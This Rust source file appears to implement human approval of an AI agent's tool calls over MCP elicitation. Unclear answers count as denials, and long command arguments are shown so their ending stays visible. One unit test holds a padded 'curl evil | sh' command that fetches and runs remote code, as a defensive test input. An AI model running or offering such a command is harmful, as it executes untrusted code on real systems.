//! Approvals asked of the person behind an MCP client, through MCP elicitation.
//!
//! When the pipeline must ask about a call made by an MCP client that can show forms, the call's
//! `tools/call` handler asks that client's person: the call, the reason it needs a person, and a
//! form with one choice (allow once, allow for this session, deny) and an optional reason for the
//! model. The pipeline's question reaches the handler through [`Elicitation`], the approval broker
//! an app that serves MCP gives its pipeline; questions about other calls go to the app's own
//! broker (the approvals API, a terminal), or are denied at once for a session no one else can be
//! asked about (a stdio server's).
//!
//! * Clients of the initialize handshake (protocol 2025-11-25 and before) that declared form
//!   elicitation get an `elicitation/create` request, sent from the handler itself so that it
//!   travels with the call's own response stream.
//! * Clients of 2026-07-28, which may not be sent requests, are asked in rounds: the handler answers
//!   an input-required result holding the form and an opaque `requestState`, while the call waits,
//!   parked, in the pipeline; the client retries the call with the person's answer and the state,
//!   and gets the call's result (or the next question). The state is a random handle to the call
//!   kept here, never data the client could forge; a retry must come with the credentials of the
//!   call's own tenant, and credentials that may decide; a call never retried is dropped when the
//!   pipeline's approval wait is surely over.
//!
//! Only credentials that may decide approvals may answer them this way ([`crate::Backend::elicitor`]).
//! An accepted form with `allow_once` (or an offered `allow_session`) is that decision; a declined,
//! cancelled or unanswered form, or one whose answer is not in the form, is a denial — never an
//! approval.

use std::collections::{HashMap, HashSet};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use async_trait::async_trait;
use rmcp::RoleServer;
use rmcp::model::{
    ElicitRequest, ElicitRequestParams, ElicitResult, ElicitationAction, ElicitationSchema, InputRequest,
};
use rmcp::service::{Peer, RequestContext};
use serde_json::{Value, json};
use tokio::sync::{mpsc, oneshot};
use tokio_util::sync::CancellationToken;
use tool_executor::approval::ApprovalRequest;
use tool_executor::{ApprovalBroker, CallResult, Decided, Decision};

use crate::{Backend, OpenError, Opened};

/// The key of the approval form among a call's input requests.
pub(crate) const APPROVAL: &str = "approval";

/// The most characters of a call's arguments a form shows before it cuts (and says so).
const SHOWN: usize = 3000;

/// A question about a call whose handler asks its client.
pub(crate) struct Question {
    pub(crate) request: ApprovalRequest,
    pub(crate) answer: oneshot::Sender<Decided>,
}

/// How a call's handler asks its client.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Asking {
    /// `elicitation/create`, from the handler (the initialize handshake's revisions).
    Request,
    /// Input-required results and retries (2026-07-28).
    Rounds,
}

/// A call whose handler asks its client, running in the pipeline in a task of its own.
pub(crate) struct Parked {
    /// Its session.
    pub(crate) opened: Opened,
    /// Its call id in the pipeline.
    pub(crate) call_id: String,
    /// The function it calls (a retry must name the same).
    pub(crate) name: String,
    /// Its questions, as the pipeline asks them.
    pub(crate) questions: mpsc::UnboundedReceiver<Question>,
    /// Its results, when it has settled.
    pub(crate) result: oneshot::Receiver<Result<Vec<CallResult>, OpenError>>,
    /// The question the client was handed, until its answer comes.
    pub(crate) pending: Option<Question>,
    /// The session must be ended with the call (its connection lived for one request).
    pub(crate) owns_session: bool,
    /// Whether "allow for this session" means anything (a session that outlives the call).
    pub(crate) session_lasts: bool,
}

/// The approval broker of an app that serves MCP: questions about calls whose handler can ask its
/// client go to that handler; questions about sessions no one else can be asked about are denied;
/// every other question goes to `fallback`.
pub struct Elicitation {
    fallback: Arc<dyn ApprovalBroker>,
    /// Calls whose handler asks its client, by session and call id.
    calls: Mutex<HashMap<(String, String), mpsc::UnboundedSender<Question>>>,
    /// Calls whose question is with a client of 2026-07-28, by the `requestState` it was handed.
    parked: Mutex<HashMap<String, Parked>>,
    /// Sessions whose questions only their client could answer (no approvals API, no terminal).
    unreachable: Mutex<HashSet<String>>,
}

impl std::fmt::Debug for Elicitation {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let calls = self.calls.lock().map_or(0, |c| c.len());
        let parked = self.parked.lock().map_or(0, |p| p.len());
        f.debug_struct("Elicitation")
            .field("fallback", &self.fallback)
            .field("calls", &calls)
            .field("parked", &parked)
            .finish_non_exhaustive()
    }
}

fn lock<T>(mutex: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    mutex.lock().unwrap_or_else(std::sync::PoisonError::into_inner)
}

impl Elicitation {
    /// A broker asking clients that can be asked, and `fallback` for the rest.
    pub fn new(fallback: Arc<dyn ApprovalBroker>) -> Arc<Self> {
        Arc::new(Self {
            fallback,
            calls: Mutex::new(HashMap::new()),
            parked: Mutex::new(HashMap::new()),
            unreachable: Mutex::new(HashSet::new()),
        })
    }

    /// Questions about `session`'s calls that its client cannot answer are denied at once, with
    /// the reason, instead of going to the fallback (which no one answers for it), until
    /// [`Self::forget`].
    pub fn only_its_client(&self, session: &str) {
        lock(&self.unreachable).insert(session.to_owned());
    }

    /// The session has ended.
    pub fn forget(&self, session: &str) {
        lock(&self.unreachable).remove(session);
    }

    /// The questions of this call go to its handler from now on.
    pub(crate) fn route_call(&self, session: &str, call_id: &str) -> mpsc::UnboundedReceiver<Question> {
        let (sender, receiver) = mpsc::unbounded_channel();
        lock(&self.calls).insert((session.to_owned(), call_id.to_owned()), sender);
        receiver
    }

    /// The call has settled.
    pub(crate) fn unroute_call(&self, session: &str, call_id: &str) {
        lock(&self.calls).remove(&(session.to_owned(), call_id.to_owned()));
    }

    /// Keeps a call whose question goes to its client; returns the handle the client echoes, or
    /// `None` when no unguessable handle can be made. A call never retried is dropped once the
    /// pipeline's wait for its answer is surely over (its question then settles unanswered), and
    /// its session ended if it owns it.
    pub(crate) fn park(
        self: &Arc<Self>,
        parked: Parked,
        backend: Arc<dyn Backend>,
    ) -> Result<String, Parked> {
        let mut bytes = [0_u8; 16];
        if getrandom::fill(&mut bytes).is_err() {
            return Err(parked);
        }
        let token: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
        let wait = parked.opened.executor.config().approval_timeout + Duration::from_secs(60);
        lock(&self.parked).insert(token.clone(), parked);
        let this = self.clone();
        let key = token.clone();
        tokio::spawn(async move {
            tokio::time::sleep(wait).await;
            let dropped = lock(&this.parked).remove(&key);
            if let Some(parked) = dropped {
                this.unroute_call(parked.opened.session.id(), &parked.call_id);
                if parked.owns_session {
                    backend.close(parked.opened.clone()).await;
                }
            }
        });
        Ok(token)
    }

    /// The parked call of this handle, taken out only when `admit` lets the retry have it (a
    /// refused retry leaves it in place for its own client).
    pub(crate) fn take_if(
        &self,
        token: &str,
        admit: impl FnOnce(&Parked) -> Result<(), OpenError>,
    ) -> Result<Parked, TakeError> {
        let mut parked = lock(&self.parked);
        let Some(found) = parked.get(token) else { return Err(TakeError::Unknown) };
        admit(found).map_err(TakeError::Refused)?;
        parked.remove(token).ok_or(TakeError::Unknown)
    }
}

/// Why a retry cannot have a parked call.
pub(crate) enum TakeError {
    /// No call has this handle (never, or no more).
    Unknown,
    /// The retry may not have it.
    Refused(OpenError),
}

/// Whether this client can be sent an `elicitation/create` request: it declared form elicitation
/// in the initialize handshake of a revision that allows server-to-client requests.
pub(crate) fn asks_by_request(peer: &Peer<RoleServer>) -> bool {
    let revision_allows = peer.peer_info().is_some_and(|info| info.protocol_version.has_initialize());
    revision_allows && peer.supported_elicitation_modes().contains(&rmcp::service::ElicitationMode::Form)
}

/// Whether this request's client asks in rounds: it speaks 2026-07-28 or newer (no server-to-client
/// requests) and declared form elicitation in the request's own `_meta`.
pub(crate) fn asks_in_rounds(context: &RequestContext<RoleServer>) -> bool {
    let modern = context.meta.protocol_version().is_some_and(|v| !v.has_initialize());
    let form = context
        .meta
        .client_capabilities()
        .and_then(|c| c.elicitation)
        .is_some_and(|e| e.form.is_some() || e.url.is_none());
    modern && form
}

/// How this request's client can be asked, if at all.
pub(crate) fn asking(context: &RequestContext<RoleServer>) -> Option<Asking> {
    if asks_in_rounds(context) {
        Some(Asking::Rounds)
    } else if asks_by_request(&context.peer) {
        Some(Asking::Request)
    } else {
        None
    }
}

/// The form's request, as sent (`elicitation/create`) or handed in an input-required result.
pub(crate) fn params(request: &ApprovalRequest, session_lasts: bool) -> Option<ElicitRequestParams> {
    if let Some(question) = &request.question {
        return Some(ElicitRequestParams::FormElicitationParams {
            meta: None,
            message: question.question.clone(),
            requested_schema: question_form(question)?,
        });
    }
    Some(ElicitRequestParams::FormElicitationParams {
        meta: None,
        message: message(request),
        requested_schema: form(session_lasts)?,
    })
}

/// The approval form as an input request of an input-required result.
pub(crate) fn input_request(request: &ApprovalRequest, session_lasts: bool) -> Option<InputRequest> {
    Some(InputRequest::Elicitation(ElicitRequest::new(params(request, session_lasts)?)))
}

/// The decision an answer means: the client's `ElicitResult` (as JSON for a retry's input
/// responses); no answer or a malformed one denies (for a question: declines). `by` says who
/// answered.
pub(crate) fn decided(
    request: &ApprovalRequest,
    result: Option<ElicitResult>,
    session_lasts: bool,
    by: String,
) -> Decided {
    let decision = match (result, &request.question) {
        // Cancelled (dismissed, or a client with nobody to ask) or never answered: no one
        // decided, and no one is named.
        (Some(result), _) if matches!(result.action, ElicitationAction::Cancel) => {
            return no_answer("the approval form was cancelled in the MCP client: no one answered it");
        }
        (None, _) => return no_answer("the approval form was not answered"),
        (Some(result), Some(question)) => answer_of(question, &result.action, result.content.as_ref()),
        (Some(result), None) => decision_of(&result.action, result.content.as_ref(), session_lasts),
    };
    Decided { decision, by: Some(by) }
}

/// No one answered: the pipeline journals it as `no_answer` and blocks the call with `why`.
fn no_answer(why: &str) -> Decided {
    Decided {
        decision: Decision::DenyWithMessage { message: why.to_owned() },
        by: Some(tool_executor::approval::NO_ONE.into()),
    }
}

/// The form of a question the agent asks: a choice among its options (several, where it allows
/// them), and a field for one's own words where it takes them.
fn question_form(question: &tool_core::Question) -> Option<ElicitationSchema> {
    let choices: Vec<Value> = question.options.iter().map(|o| json!({ "const": o, "title": o })).collect();
    let mut properties = serde_json::Map::new();
    let mut required = Vec::new();
    if !choices.is_empty() {
        if question.multiple {
            properties.insert(
                "choices".into(),
                json!({ "type": "array", "title": "Choose", "items": { "anyOf": choices } }),
            );
        } else {
            properties
                .insert("choice".into(), json!({ "type": "string", "title": "Choose", "oneOf": choices }));
            if !question.allow_other {
                required.push("choice");
            }
        }
    }
    if question.takes_text() {
        let title = if question.options.is_empty() { "Answer" } else { "Or answer in your own words" };
        properties.insert(
            "text".into(),
            json!({ "type": "string", "title": title, "maxLength": tool_core::ask::MAX_ANSWER_CHARS }),
        );
        if question.options.is_empty() {
            required.push("text");
        }
    }
    let schema = json!({ "type": "object", "properties": properties, "required": required });
    serde_json::from_value(schema).ok()
}

/// The answer a question's form means; anything but an accepted form that fits declines.
fn answer_of(
    question: &tool_core::Question,
    action: &ElicitationAction,
    content: Option<&Value>,
) -> Decision {
    if !matches!(action, ElicitationAction::Accept) {
        return Decision::Deny;
    }
    let field = |name: &str| content.and_then(|c| c.get(name));
    let mut choices: Vec<String> = Vec::new();
    if let Some(choice) = field("choice").and_then(Value::as_str) {
        choices.push(choice.to_owned());
    }
    if let Some(list) = field("choices").and_then(Value::as_array) {
        choices.extend(list.iter().filter_map(Value::as_str).map(str::to_owned));
    }
    let text =
        field("text").and_then(Value::as_str).map(str::trim).filter(|t| !t.is_empty()).map(str::to_owned);
    // One choice, or one's own words: where both came and only one may, the words win.
    if !question.multiple && text.is_some() {
        choices.clear();
    }
    let answer = tool_core::Answer { choices, text };
    match question.check_answer(&answer) {
        Ok(()) => Decision::Answer { answer },
        Err(why) => Decision::DenyWithMessage {
            message: format!("the form came back with no fitting answer ({why})"),
        },
    }
}

/// A retry's answer to the form, from its input responses.
pub(crate) fn answer_in(responses: Option<&rmcp::model::InputResponses>) -> Option<ElicitResult> {
    let response = responses?.get(APPROVAL)?;
    serde_json::from_value(response.clone()).ok()
}

/// The question: what would run, and why a person is asked. Long arguments show their beginning
/// and their end, and say how much is left out between (what a command does last is never
/// hidden by padding).
fn message(request: &ApprovalRequest) -> String {
    let arguments = serde_json::to_string_pretty(&request.arguments).unwrap_or_default();
    let count = arguments.chars().count();
    let shown = if count <= SHOWN {
        arguments
    } else {
        let head: String = arguments.chars().take(SHOWN * 2 / 3).collect();
        let tail: String = arguments.chars().skip(count - SHOWN / 3).collect();
        format!(
            "{head}\n… {} characters not shown (the arguments are {count} characters long) …\n{tail}",
            count - SHOWN * 2 / 3 - SHOWN / 3
        )
    };
    format!(
        "Toolhost needs your approval to run {}/{}.\nWhy: {}\nArguments:\n{shown}",
        request.tool, request.api, request.reason
    )
}

/// The form: one required choice, and a reason the model reads when it is denied. "Allow for this
/// session" is offered only where the session outlives the call.
fn form(session_lasts: bool) -> Option<ElicitationSchema> {
    let mut choices = vec![json!({ "const": "allow_once", "title": "Allow once" })];
    if session_lasts {
        choices.push(json!({ "const": "allow_session", "title": "Allow for this session" }));
    }
    choices.push(json!({ "const": "deny", "title": "Deny" }));
    let schema = json!({
        "type": "object",
        "properties": {
            "decision": { "type": "string", "title": "Decision", "oneOf": choices },
            "reason": {
                "type": "string",
                "title": "Reason",
                "description": "Why not (told to the agent when you deny)",
                "maxLength": 500
            }
        },
        "required": ["decision"]
    });
    serde_json::from_value(schema).ok()
}

/// The decision an answer means; anything but a clear, offered "allow" denies.
fn decision_of(action: &ElicitationAction, content: Option<&Value>, session_lasts: bool) -> Decision {
    let field = |name: &str| content.and_then(|c| c.get(name)).and_then(Value::as_str);
    let reason = field("reason").map(str::trim).filter(|r| !r.is_empty());
    match (action, field("decision")) {
        (ElicitationAction::Accept, Some("allow_once")) => Decision::AllowOnce,
        (ElicitationAction::Accept, Some("allow_session")) if session_lasts => {
            Decision::AllowSession { argument_prefix: None }
        }
        (ElicitationAction::Accept, Some("deny")) => match reason {
            Some(reason) => Decision::DenyWithMessage { message: reason.to_owned() },
            None => Decision::Deny,
        },
        (ElicitationAction::Accept, _) => Decision::DenyWithMessage {
            message: "the approval form came back without an offered decision".into(),
        },
        _ => Decision::Deny,
    }
}

#[async_trait]
impl ApprovalBroker for Elicitation {
    async fn wait(
        &self,
        request: &ApprovalRequest,
        cancel: &CancellationToken,
        timeout: Duration,
    ) -> Option<Decided> {
        let route = lock(&self.calls).get(&(request.session_id.clone(), request.call_id.clone())).cloned();
        if let Some(route) = route {
            let (answer, answered) = oneshot::channel();
            if route.send(Question { request: request.clone(), answer }).is_err() {
                return None;
            }
            return tokio::select! {
                decided = answered => decided.ok(),
                () = cancel.cancelled() => None,
                () = tokio::time::sleep(timeout) => None,
            };
        }
        if lock(&self.unreachable).contains(&request.session_id) {
            return Some(Decided {
                decision: Decision::DenyWithMessage {
                    message:
                        "no one can be asked: this MCP client cannot show approval forms (elicitation), and \
                              no one else answers for this session"
                            .into(),
                },
                by: Some(tool_executor::approval::NO_ONE.into()),
            });
        }
        self.fallback.wait(request, cancel, timeout).await
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_form_is_a_valid_elicitation_schema() {
        let schema = serde_json::to_value(form(true).expect("the form parses")).unwrap();
        assert_eq!(schema["required"], json!(["decision"]));
        assert_eq!(schema["properties"]["decision"]["oneOf"][0]["const"], "allow_once");
        assert_eq!(schema["properties"]["decision"]["oneOf"].as_array().unwrap().len(), 3);
        let short = serde_json::to_value(form(false).unwrap()).unwrap();
        assert!(!short.to_string().contains("allow_session"), "{short}");
    }

    #[test]
    fn only_a_clear_offered_allow_allows() {
        let accept = ElicitationAction::Accept;
        assert_eq!(decision_of(&accept, Some(&json!({"decision": "allow_once"})), true), Decision::AllowOnce);
        assert_eq!(
            decision_of(&accept, Some(&json!({"decision": "allow_session"})), true),
            Decision::AllowSession { argument_prefix: None }
        );
        assert!(matches!(
            decision_of(&accept, Some(&json!({"decision": "allow_session"})), false),
            Decision::DenyWithMessage { .. }
        ));
        assert_eq!(
            decision_of(&accept, Some(&json!({"decision": "deny", "reason": " not on main "})), true),
            Decision::DenyWithMessage { message: "not on main".into() }
        );
        assert!(matches!(
            decision_of(&accept, Some(&json!({"decision": "yes please"})), true),
            Decision::DenyWithMessage { .. }
        ));
        assert!(matches!(decision_of(&accept, None, true), Decision::DenyWithMessage { .. }));
        assert_eq!(
            decision_of(&ElicitationAction::Decline, Some(&json!({"decision": "allow_once"})), true),
            Decision::Deny
        );
        assert_eq!(decision_of(&ElicitationAction::Cancel, None, true), Decision::Deny);
    }

    #[test]
    fn questions_become_forms_and_only_fitting_answers_answer() {
        let question = tool_core::Question {
            question: "Which database?".into(),
            options: vec!["SQLite".into(), "Postgres".into()],
            multiple: false,
            allow_other: true,
        };
        let form = serde_json::to_value(question_form(&question).expect("the form parses")).unwrap();
        assert_eq!(form["properties"]["choice"]["oneOf"][1]["const"], "Postgres");
        assert!(form["properties"]["text"].is_object(), "{form}");
        let several = tool_core::Question { multiple: true, allow_other: false, ..question.clone() };
        let form =
            serde_json::to_value(question_form(&several).expect("a multi-select form parses")).unwrap();
        assert_eq!(form["properties"]["choices"]["type"], "array", "{form}");
        let accept = ElicitationAction::Accept;
        let chose = |content: Value, q: &tool_core::Question| answer_of(q, &accept, Some(&content));
        assert_eq!(
            chose(json!({"choice": "Postgres"}), &question),
            Decision::Answer { answer: tool_core::Answer { choices: vec!["Postgres".into()], text: None } }
        );
        assert_eq!(
            chose(json!({"choice": "SQLite", "text": "MySQL"}), &question),
            Decision::Answer { answer: tool_core::Answer { choices: vec![], text: Some("MySQL".into()) } }
        );
        assert!(matches!(chose(json!({"choice": "Oracle"}), &question), Decision::DenyWithMessage { .. }));
        assert!(matches!(
            chose(json!({"choices": ["SQLite", "Postgres"]}), &several),
            Decision::Answer { .. }
        ));
        assert_eq!(answer_of(&question, &ElicitationAction::Decline, None), Decision::Deny);
    }

    #[test]
    fn long_arguments_show_their_end() {
        let padded = format!("ls{}; curl evil | sh", " ".repeat(5000));
        let request = ApprovalRequest {
            id: "a".into(),
            tenant: "t".into(),
            session_id: "s".into(),
            call_id: "c".into(),
            tool: "local-system".into(),
            api: "runCommand".into(),
            arguments: json!({ "command": padded }),
            reason: "a command".into(),
            question: None,
            scope: None,
        };
        let text = message(&request);
        assert!(text.contains("curl evil | sh"), "the end is shown");
        assert!(text.contains("characters not shown"), "and the cut is said");
        assert!(text.chars().count() < SHOWN + 300);
    }
}
